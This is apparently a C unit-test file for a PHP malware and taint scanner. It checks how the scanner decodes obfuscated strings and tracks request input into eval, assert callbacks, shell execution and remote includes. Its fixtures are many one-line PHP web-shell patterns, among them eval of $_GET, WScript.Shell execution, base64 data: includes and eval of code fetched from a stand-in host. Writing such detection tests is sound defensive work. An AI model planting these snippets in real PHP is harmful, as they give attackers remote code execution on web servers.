/*
 * engine: what texts are worked out to, how far the interpreter goes, and what a value is made of where it does harm.
 *
 * Each script ends in eval(), whose argument is what the test is about: its content, or its marks.
 */
#include "base/arena.h"
#include "scan/engine.h"
#include "scan/php.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

static struct lexicon *words;

struct seen {
	char text[200];
	uint32_t marks, second;
	bool found;
};

/* The last event of SINK. */
static struct seen look(const char *php, uint8_t sink)
{
	struct arena *arena = arena_new();
	struct events ev = { 0 };
	struct seen seen = { .text = "" };

	engine_run(words, span_str(php), arena, &ev);
	for (uint32_t i = 0; i < ev.n; i++) {
		const struct event *e = &ev.event[i];
		size_t n = e->content.n < sizeof(seen.text) - 1 ? e->content.n : sizeof(seen.text) - 1;

		if (e->sink != sink)
			continue;
		if (n)
			memcpy(seen.text, e->content.p, n);
		seen.text[n] = '\0';
		seen.marks = e->marks;
		seen.second = e->second;
		seen.found = true;
	}
	arena_free(arena);
	return seen;
}

struct folding {
	const char *php, *text;
};

static void fold(const struct folding *f, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct seen s = look(f[i].php, SINK_CODE);

		if (!s.found || strcmp(s.text, f[i].text) != 0)
			fail_msg("%s\n gives \"%s\", not \"%s\"", f[i].php, s.text, f[i].text);
	}
}
#define FOLD(list) fold(list, sizeof(list) / sizeof((list)[0]))

static void test_folds_texts(void **state)
{
	static const struct folding list[] = {
		{ "<?php eval('a'.'b'.\"c\");", "abc" },
		{ "<?php $x='b'; eval(\"a{$x}c\");", "abc" },
		{ "<?php eval(\"\\x61\\142\\u{63}\");", "abc" },
		{ "<?php eval(chr(97).chr(0x62).strtolower('C'));", "abc" },
		{ "<?php eval(strrev(str_rot13('pon')));", "abc" },
		{ "<?php eval(base64_decode('YWJj'));", "abc" },
		{ "<?php eval(hex2bin('616263'));", "abc" },
		{ "<?php eval(pack('H*','616263'));", "abc" },
		{ "<?php eval(urldecode('%61bc'));", "abc" },
		{ "<?php eval('abcd'^'    ');", "ABCD" },
		{ "<?php eval(substr('xabcx',1,3));", "abc" },
		{ "<?php eval(str_replace('-','','a-b-c'));", "abc" },
		{ "<?php eval(strtr('xyz','xyz','abc'));", "abc" },
		{ "<?php eval(preg_replace('/[^a-c]/','','1a2b3c'));", "abc" },
		{ "<?php eval(implode('',array('a','b','c')));", "abc" },
		{ "<?php eval(implode('',array_reverse(array('c','b','a'))));", "abc" },
		{ "<?php $a=explode('|','a|b|abc'); eval(end($a));", "abc" },
		{ "<?php eval(sprintf('%s%c%2$c','a',98));", "abb" },
		{ "<?php eval(md5('abc'));", "900150983cd24fb0d6963f7d28e17f72" },
		{ "<?php eval(sha1('abc'));", "a9993e364706816aba3e25717850c26c9cd0d89d" },
		{ "<?php eval(implode(',',unpack('C*','abc')));", "97,98,99" },
		{ "<?php eval('b'>'a'?'abc':'x');", "abc" },
		{ "<?php define('K','abc'); eval(K);", "abc" },
	};

	FOLD(list);
}

static void test_runs_loops(void **state)
{
	static const struct folding list[] = {
		{ "<?php $t=''; for($i=97;$i<100;$i++) $t.=chr($i); eval($t);", "abc" },
		{ "<?php $t=''; foreach(array(98,99,100) as $c) $t.=chr($c-1); eval($t);", "abc" },
		{ "<?php $s='bcd'; $i=0; while($i<strlen($s)){$s[$i]=chr(ord($s[$i])-1);$i++;} eval($s);",
		  "abc" },
		{ "<?php $t=''; $i=0; do{$t.='x'; if(++$i==3) break;}while(true); eval($t);", "xxx" },
		{ "<?php function d($s,$k){$o='';for($i=0;$i<strlen($s);$i++)$o.=$s[$i]^$k;return $o;}"
		  " eval(d('ABC',' '));",
		  "abc" },
		{ "<?php class D{private $k=' ';function x($s){return $s^str_repeat($this->k,3);}}"
		  " $d=new D; eval($d->x('ABC'));",
		  "abc" },
		{ "<?php $f=create_function('$a','return strrev($a);'); eval($f('cba'));", "abc" },
		{ "<?php $f=function($a){return strrev($a);}; eval($f('cba'));", "abc" },
		{ "<?php eval(implode('',array_map('chr',array(97,98,99))));", "abc" },
		{ "<?php goto b; a: eval($t); goto c; b: $t='abc'; goto a; c:", "abc" },
		{ "<?php $n='t'; $$n='abc'; eval($t);", "abc" },
		{ "<?php eval('$t=\"abc\";'); eval($t);", "abc" },
		{ "<?php /** abc */ class A{} $r=new ReflectionClass('A');"
		  " eval(substr($r->getDocComment(),4,3));",
		  "abc" },
		{ "<?php class A{const K='abc';} $r=new ReflectionClass('A'); eval($r->getConstant('K'));",
		  "abc" },
		{ "<?php class A{function __construct($a){eval($a);}} $r=new ReflectionClass('A');"
		  " $r->newInstance('abc');",
		  "abc" },
		{ "<?php try{throw new Exception('abc');}catch(Exception $e){eval($e->getMessage());}",
		  "abc" },
	};

	FOLD(list);
}

static void taint(const char *php, uint8_t sink, uint32_t has, uint32_t lacks)
{
	struct seen s = look(php, sink);

	if (!s.found || (s.marks & has) != has || s.marks & lacks)
		fail_msg("%s\n %s marks %x, has to have %x and to lack %x", php,
			 s.found ? "" : "not reached,", s.marks, has, lacks);
}

static void test_taint_flows(void **state)
{
	taint("<?php eval($_GET['a']);", SINK_CODE, M_FIELD, M_BEHIND);
	taint("<?php eval('return '.$_GET['a']);", SINK_CODE, M_FIELD | M_BEHIND, 0);
	taint("<?php $a=array($_POST); foreach($a[0] as $k=>$v) eval($v);", SINK_CODE, M_FIELD, 0);
	taint("<?php function f($x){return trim($x);} eval(f($_COOKIE['c']));", SINK_CODE, M_FIELD, 0);
	taint("<?php class A{public $p;} $o=new A; $o->p=$_REQUEST['r']; eval($o->p);", SINK_CODE, M_FIELD,
	      0);
	taint("<?php extract($_POST); eval($anything);", SINK_CODE, M_FIELD, 0);
	taint("<?php extract($_POST); $anything.='x'; eval($anything);", SINK_CODE, M_FIELD, 0);
	taint("<?php foreach($_GET as $k=>$v) $$k=$v; eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php eval(file_get_contents('php://input'));", SINK_CODE, M_BODY, M_FIELD);
	taint("<?php eval(file_get_contents('http://a.example/x'));", SINK_CODE, M_REMOTE, M_FIELD);
	taint("<?php eval($_SERVER['HTTP_X_A']);", SINK_CODE, M_HEADER, 0);
	taint("<?php eval($never);", SINK_CODE, M_LOOSE, M_FIELD);
	taint("<?php $_SESSION['a']=$_GET['a']; eval($_SESSION['a']);", SINK_CODE, M_FIELD, 0);
	taint("<?php array_map('assert',$_POST);", SINK_CODE, M_FIELD, 0);
	taint("<?php usort(...$_GET);", SINK_CALLBACK, M_FIELD, 0);
	taint("<?php filter_var($_GET['a'],FILTER_CALLBACK,array('options'=>'assert'));", SINK_CODE, M_FIELD,
	      0);
	taint("<?php $o=new ArrayObject(array($_GET['a'])); $o->uasort('assert');", SINK_CODE, M_FIELD, 0);
	taint("<?php ob_start('assert'); echo $_GET['a']; ob_end_flush();", SINK_CODE, M_FIELD, 0);
	taint("<?php copy('http://a.example/x','y.php');", SINK_COPY, 0, M_FIELD);
	taint("<?php file_put_contents('a',$_GET['a']); include 'a';", SINK_INCLUDE, M_FIELD, 0);
	taint("<?php mail($_POST['to'],'s',$_POST['text']);", SINK_MAIL, M_FIELD, 0);
}

static void test_taint_ends(void **state)
{
	taint("<?php eval((int)$_GET['a'].';');", SINK_CODE, 0, M_FIELD);
	taint("<?php eval('a'.md5($_GET['a']));", SINK_CODE, 0, M_FIELD);
	taint("<?php $m=array('a'=>'x','b'=>'y'); eval($m[$_GET['k']]);", SINK_CODE, M_CHOSEN, M_FIELD);
	taint("<?php $a=$_GET['a']; $a='fixed'; eval($a);", SINK_CODE, 0, M_FIELD);
	taint("<?php function f($x){return 'fixed';} eval(f($_GET['a']));", SINK_CODE, 0, M_FIELD);
	taint("<?php eval(strlen($_GET['a']));", SINK_CODE, 0, M_FIELD);
}

/* Objects and functions of PHP's that call, read or run what they are given. */
static void test_taint_goes_through_php(void **state)
{
	/* calls by another function's hand */
	taint("<?php call_user_func('assert',$_GET['a']);", SINK_CODE, M_FIELD, 0);
	taint("<?php call_user_func_array('assert',array($_GET['a']));", SINK_CODE, M_FIELD, 0);
	taint("<?php call_user_func_array('assert',$_GET);", SINK_CODE, M_FIELD, 0);
	taint("<?php array_walk($_POST,'assert');", SINK_CODE, M_FIELD, 0);
	taint("<?php array_filter(array($_GET['a']),'assert');", SINK_CODE, M_FIELD, 0);
	taint("<?php usort($_POST,'assert');", SINK_CODE, M_FIELD, 0);
	taint("<?php uasort($_POST,create_function('$a,$b','return eval($a);'));", SINK_CODE, M_FIELD, 0);
	taint("<?php preg_replace_callback('/.*/',function($m){eval($m);},$_GET['a']);", SINK_CODE, M_FIELD,
	      0);
	taint("<?php preg_replace_callback('/.*/','assert',$_POST['a']);", SINK_CODE, M_FIELD, 0);
	taint("<?php register_shutdown_function('assert',$_GET['a']);", SINK_CODE, M_FIELD, 0);
	taint("<?php function f(){eval($_GET['a']);} register_shutdown_function('f');", SINK_CODE, M_FIELD,
	      0);
	taint("<?php ob_start('assert'); echo $_GET['a']; ob_end_clean();", SINK_CODE, M_FIELD, 0);
	taint("<?php session_set_save_handler('x','y','assert');", SINK_CODE, M_FIELD, 0);
	taint("<?php filter_var($_GET['a'],FILTER_CALLBACK,array('options'=>function($x){eval($x);}));",
	      SINK_CODE, M_FIELD, 0);
	taint("<?php array_map(function($x){eval($x);},$_POST);", SINK_CODE, M_FIELD, 0);
	taint("<?php array_map($_GET['f'],array($_GET['a']));", SINK_CALLBACK, M_FIELD, 0);
	/* objects */
	taint("<?php $o=new ArrayIterator(array($_GET['a'])); $o->uasort('assert');", SINK_CODE, M_FIELD, 0);
	taint("<?php $o=new ArrayObject(array($_GET['a']=>1)); $o->uksort('assert');", SINK_CODE, M_FIELD, 0);
	taint("<?php new CallbackFilterIterator(new ArrayIterator(array($_GET['a'])),'assert');", SINK_CODE,
	      M_FIELD, 0);
	taint("<?php $r=new ReflectionFunction('assert'); $r->invoke($_GET['a']);", SINK_CODE, M_FIELD, 0);
	taint("<?php $r=new ReflectionFunction('assert'); $r->invokeArgs(array($_GET['a']));", SINK_CODE,
	      M_FIELD, 0);
	taint("<?php class A{function __construct($a){eval($a);}} $r=new ReflectionClass('A');"
	      " $r->newInstanceArgs(array($_GET['a']));",
	      SINK_CODE, M_FIELD, 0);
	taint("<?php class A{static $s='x';} $r=new ReflectionClass('A'); A::$s=$_GET['a'];"
	      " eval($r->getStaticPropertyValue('s'));",
	      SINK_CODE, M_FIELD, 0);
	taint("<?php $o=new COM('WScript.Shell'); $o->Run($_GET['a']);", SINK_COMMAND, M_FIELD, 0);
	taint("<?php $o=new COM($_GET['a']);", SINK_COMMAND, M_FIELD, 0);
	taint("<?php $d=new PDO($_GET['d']); $d->query($_GET['q']);", SINK_DATABASE, M_FIELD, 0);
	taint("<?php $d=new mysqli($_GET['h'],'u','p'); $d->multi_query($_POST['q']);", SINK_DATABASE,
	      M_FIELD, 0);
	taint("<?php $f=new SplFileObject('php://input'); eval($f->fgets());", SINK_CODE, 0, M_FIELD);
	taint("<?php try{throw new Exception($_GET['a']);}catch(Exception $e){eval($e->getMessage());}",
	      SINK_CODE, M_FIELD, 0);
	taint("<?php class A{function __call($n,$a){eval($_GET['a']);}} $o=new A; $o->any(1);", SINK_CODE,
	      M_FIELD, 0);
	taint("<?php class A{function __invoke($a){eval($a);}} $o=new A; $o($_GET['a']);", SINK_CODE, M_FIELD,
	      0);
	taint("<?php class A{static function s($a){eval($a);}} $m='s'; A::$m($_GET['a']);", SINK_CODE,
	      M_FIELD, 0);
	taint("<?php class A{function m($a){eval($a);}} $f=array(new A,'m'); $f($_GET['a']);", SINK_CODE,
	      M_FIELD, 0);
	taint("<?php class A{function m($a){eval($a);}} $o=new A; $n='m'; $o->$n($_GET['a']);", SINK_CODE,
	      M_FIELD, 0);
	taint("<?php class A{function m($a){eval($a);}} $o=new A; $o->{'m'}($_GET['a']);", SINK_CODE, M_FIELD,
	      0);
	taint("<?php $c=function($a){eval($a);}; $c->__invoke($_GET['a']);", SINK_CODE, M_FIELD, 0);
	/* what is made of text */
	taint("<?php preg_replace('/.*/e',$_GET['a'],'x');", SINK_REPLACE, M_FIELD, 0);
	taint("<?php include 'data:text/plain;base64,'.base64_encode($_GET['a']);", SINK_INCLUDE, M_FIELD, 0);
	taint("<?php include 'data:,<?php eval($_GET[1]);';", SINK_CODE, M_FIELD, 0);
	taint("<?php include 'data:text/plain;base64,PD9waHAgZXZhbCgkX0dFVFsxXSk7';", SINK_CODE, M_FIELD, 0);
	taint("<?php parse_str($_SERVER['QUERY_STRING'],$o); eval($o['a']);", SINK_CODE, M_HEADER, 0);
	taint("<?php parse_str('a=1',$o); eval($o['a']);", SINK_CODE, 0, M_FIELD);
	taint("<?php import_request_variables('gp'); eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php $a=unserialize($_COOKIE['c']); eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php $a=json_decode($_POST['j'],true); eval($a['x']);", SINK_CODE, M_FIELD, 0);
	taint("<?php $a=explode(',',$_GET['a']); eval($a[1]);", SINK_CODE, M_FIELD, 0);
	taint("<?php list($a,$b)=explode(',',$_GET['a']); eval($b);", SINK_CODE, M_FIELD, 0);
	taint("<?php [$a,$b]=$_POST; eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php eval(sprintf('%s;',$_GET['a']));", SINK_CODE, M_FIELD, 0);
	taint("<?php eval(\"$_GET[a]\");", SINK_CODE, M_FIELD, M_BEHIND);
	taint("<?php eval(\"{$_GET['a']}\");", SINK_CODE, M_FIELD, M_BEHIND);
	taint("<?php eval(<<<X\n$_POST[a]\nX\n);", SINK_CODE, M_FIELD, 0);
	taint("<?php $GLOBALS['a']=$_GET['a']; eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php eval($GLOBALS['_GET']['a']);", SINK_CODE, M_FIELD, 0);
	taint("<?php $n='_GET'; eval(${$n}['a']);", SINK_CODE, M_FIELD, 0);
	taint("<?php function f(){global $a; eval($a);} $a=$_GET['a']; f();", SINK_CODE, M_FIELD, 0);
	taint("<?php function f(){static $a; $a=$_GET['a']; return $a;} eval(f());", SINK_CODE, M_FIELD, 0);
	taint("<?php function f(&$x){$x=$_GET['a'];} f($a); eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php function f(...$r){return $r[1];} eval(f(1,$_GET['a']));", SINK_CODE, M_FIELD, 0);
	taint("<?php function f($x){yield $x;} foreach(f($_GET['a']) as $v) eval($v);", SINK_CODE, M_FIELD,
	      0);
	taint("<?php $a['x']['y']=$_GET['a']; eval($a['x']['y']);", SINK_CODE, M_FIELD, 0);
	taint("<?php $a=[]; $a[]=$_GET['a']; eval(end($a));", SINK_CODE, M_FIELD, 0);
	taint("<?php $o=new stdClass; $o->p=$_GET['a']; eval($o->p);", SINK_CODE, M_FIELD, 0);
	taint("<?php $o=new stdClass; $o->p='x'; eval($o->p);", SINK_CODE, 0, M_FIELD);
	taint("<?php $o=new \\stdClass(); $o->p=$_GET['a']; eval($o->p);", SINK_CODE, M_FIELD, 0);
	taint("<?php function f(){yield 'x'; yield; return 1;} foreach(f() as $v) eval($v);", SINK_CODE, 0,
	      M_FIELD);
	taint("<?php $o=new stdClass; $n='p'; $o->$n=$_GET['a']; eval($o->p);", SINK_CODE, M_FIELD, 0);
	taint("<?php $a=$_GET['a'] ?? 'x'; eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php $a=isset($_GET['a'])?$_GET['a']:'x'; eval($a);", SINK_CODE, M_FIELD, 0);
	taint("<?php if(isset($_GET['a'])): eval($_GET['a']); endif;", SINK_CODE, M_FIELD, 0);
	taint("<?php switch($_GET['b']){case 'x': eval($_GET['a']);}", SINK_CODE, M_FIELD, 0);
	taint("<?php while(list($k,$v)=each($_POST)) eval($v);", SINK_CODE, M_FIELD, 0);
	taint("<?php $f=fopen('http://a.example/x','r'); eval(fread($f,100));", SINK_CODE, M_REMOTE, M_FIELD);
	taint("<?php $f=fopen('php://input','r'); eval(stream_get_contents($f));", SINK_CODE, M_BODY,
	      M_FIELD);
	taint("<?php eval(implode('',file('http://a.example/x')));", SINK_CODE, M_REMOTE, M_FIELD);
	taint("<?php $f=fopen($_FILES['f']['tmp_name'],'r'); eval(fgets($f));", SINK_CODE, M_UPLOAD, M_FIELD);
	taint("<?php move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);", SINK_UPLOAD,
	      M_UPLOAD, 0);
	taint("<?php eval(substr(file_get_contents(__FILE__),100));", SINK_CODE, M_SELF, M_FIELD);
	taint("<?php eval(getenv('HTTP_X_A'));", SINK_CODE, M_HEADER, 0);
	taint("<?php $h=getallheaders(); eval($h['X-A']);", SINK_CODE, M_FIELD, 0);
	taint("<?php system('ping '.$_GET['h']);", SINK_COMMAND, M_FIELD | M_BEHIND, 0);
	taint("<?php echo `$_GET[c]`;", SINK_COMMAND, M_FIELD, M_BEHIND);
}

/* What is found out must not depend on what is put behind it. */
static void test_flood_hides_nothing(void **state)
{
	struct arena *arena = arena_new();
	size_t n = 6000000, at;
	char *php = malloc(n);
	struct events ev = { 0 };
	bool found = false;

	assert_non_null(php);
	at = (size_t)snprintf(php, n, "<?php eval($_POST['x']);");
	for (unsigned i = 0; at < n - 32; i++)
		at += (size_t)snprintf(php + at, n - at, "$v%u=%u;", i, i);
	engine_run(words, span_of(php, at), arena, &ev);
	for (uint32_t i = 0; i < ev.n; i++)
		found |= ev.event[i].sink == SINK_CODE && ev.event[i].marks & M_FIELD;
	assert_true(found);
	assert_true(ev.limits);
	arena_free(arena);
	free(php);
}

static int make(void **state)
{
	words = lexicon_new();
	return 0;
}

static int drop(void **state)
{
	lexicon_free(words);
	return 0;
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_folds_texts),	    cmocka_unit_test(test_runs_loops),
		cmocka_unit_test(test_taint_flows),	    cmocka_unit_test(test_taint_ends),
		cmocka_unit_test(test_flood_hides_nothing), cmocka_unit_test(test_taint_goes_through_php),
	};

	return cmocka_run_group_tests(tests, make, drop);
}
